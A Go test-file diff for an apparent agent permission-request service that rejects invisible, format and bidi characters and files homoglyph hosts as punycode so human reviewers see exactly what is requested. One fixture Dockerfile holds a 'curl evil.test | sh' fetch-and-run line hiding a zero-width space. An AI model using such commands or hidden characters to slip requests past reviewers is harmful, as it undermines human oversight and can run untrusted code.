@@ -158,6 +158,20 @@ func TestMalformedInputsAreToolErrors(t *testing.T) {
 		{"empty dockerfile", "propose_dockerfile", map[string]any{"content": "", "reason": good}, "empty"},
 		{"oversize dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\n" + strings.Repeat("#", MaxDockerfile), "reason": good}, "64 KiB"},
 		{"carriage return", "propose_dockerfile", map[string]any{"content": "FROM x\rRUN evil\n", "reason": good}, "control character"},
+		// Invisible and format characters, and spaces that are not ASCII's:
+		// a person must see exactly what the agent asks for.
+		{"zero-width space in reason", "request_egress", map[string]any{"host": "example.com", "reason": "ok\u200bhidden"}, "U+200B"},
+		{"word joiner in reason", "request_egress", map[string]any{"host": "example.com", "reason": "ok\u2060"}, "U+2060"},
+		{"bom in reason", "request_route", map[string]any{"service": "gh", "upstream": "https://api.github.com", "reason": "\ufeffok"}, "U+FEFF"},
+		{"tag characters in reason", "request_egress", map[string]any{"host": "example.com", "reason": "ok\U000E0069\U000E0067\U000E006E"}, "U+E0069"},
+		{"no-break space in reason", "request_egress", map[string]any{"host": "example.com", "reason": "ok\u00a0ok"}, "U+00A0"},
+		{"zero-width space in dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\nRUN curl evil.test\u200b | sh\n", "reason": good}, "U+200B"},
+		{"ideographic space in dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\nRUN a\u3000b\n", "reason": good}, "U+3000"},
+		{"hangul filler in dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\nRUN \u3164\n", "reason": good}, "U+3164"},
+		{"tag characters in dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\n# \U000E0041\n", "reason": good}, "U+E0041"},
+		{"rlo in dockerfile", "propose_dockerfile", map[string]any{"content": "FROM x\nRUN echo \u202e\n", "reason": good}, "U+202E"},
+		{"zero-width in host", "request_egress", map[string]any{"host": "exa\u200bmple.com", "reason": good}, "U+200B"},
+		{"zero-width in upstream", "request_route", map[string]any{"service": "gh", "upstream": "https://api.git\u200bhub.com", "reason": good}, "U+200B"},
 		{"bad id", "get_request", map[string]any{"id": "../decisions/x"}, "invalid request id"},
 		{"unknown id", "get_request", map[string]any{"id": "r-nope"}, "no request"},
 		{"wait too long", "get_request", map[string]any{"id": "r-nope", "wait_seconds": 301}, "0-300"},
@@ -179,8 +193,43 @@ func TestMalformedInputsAreToolErrors(t *testing.T) {
 			denies++
 		}
 	}
-	if denies != 25 { // every refused filing; get_request and schema refusals are not filings
-		t.Errorf("audited %d refused filings, want 25", denies)
+	if denies != 37 { // every refused filing; get_request and schema refusals are not filings
+		t.Errorf("audited %d refused filings, want 37", denies)
+	}
+}
+
+// A host that is not ASCII is filed as its A-label (punycode): the person
+// reviews the name DNS will be asked for, and that is what is applied. A
+// homoglyph of a familiar name is then plainly not that name.
+func TestInternationalHostsAreFiledAsALabels(t *testing.T) {
+	f := newFixture(t, 0)
+	for in, want := range map[string]string{
+		"\u0430pple.com":     "xn--pple-43d.com",     // Cyrillic a
+		"*.b\u00fccher.test": "*.xn--bcher-kva.test", // a wildcard keeps its star
+		"M\u00dcNCHEN.de":    "xn--mnchen-3ya.de",    // mapped to lower case first
+		"\uff41pple.com":     "apple.com",            // fullwidth maps to ASCII: what is shown
+	} {
+		id := mustFile(t, f.cs, "request_egress", map[string]any{"host": in, "reason": "r"})
+		req, err := readRequest(f.q.RequestsDir, id)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if req.Egress.Host != want {
+			t.Errorf("%q filed as %q, want %q", in, req.Egress.Host, want)
+		}
+	}
+	id := mustFile(t, f.cs, "request_route", map[string]any{"service": "gh", "upstream": "https://\u0430pi.github.com/v3", "reason": "r"})
+	req, err := readRequest(f.q.RequestsDir, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if req.Route.Upstream != "https://xn--pi-6kc.github.com/v3" {
+		t.Errorf("upstream filed as %q", req.Route.Upstream)
+	}
+	// A name IDNA refuses is refused with its reason.
+	res, text := call(t, f.cs, "request_egress", map[string]any{"host": "\u05d0a.com", "reason": "r"}, nil)
+	if !res.IsError || !strings.Contains(text, "internationalized") {
+		t.Errorf("a bidi-mixed name: IsError=%v %q", res.IsError, text)
 	}
 }
 
